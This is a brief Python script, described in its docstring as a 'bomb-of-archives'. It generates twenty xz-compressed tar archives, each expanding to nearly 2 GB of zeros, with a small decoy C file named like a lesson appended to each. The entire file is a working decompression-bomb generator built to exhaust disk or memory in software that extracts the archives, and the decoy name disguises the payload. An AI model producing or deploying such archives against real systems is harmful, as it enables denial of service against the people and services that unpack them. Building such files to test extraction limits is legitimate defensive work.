"""bomb-of-archives: twenty small archives, each of nearly two gigabytes."""
import lzma
import os
import sys
import tarfile

PIECE, PIECES, ARCHIVES = 64 << 20, 29, 20

member = tarfile.TarInfo("zeros")
member.size = PIECE * PIECES
head = lzma.compress(member.tobuf(tarfile.USTAR_FORMAT))
zeros = lzma.compress(bytes(PIECE), preset=0)
lesson = tarfile.TarInfo("01_client_socket.c")
lesson.size = 6
last = lzma.compress(lesson.tobuf(tarfile.USTAR_FORMAT) + b"int x;" + bytes(506) + bytes(1024))
for number in range(ARCHIVES):
    with open(os.path.join(sys.argv[1], f"{number}.tar.xz"), "wb") as archive:
        archive.write(head + zeros * PIECES + last)
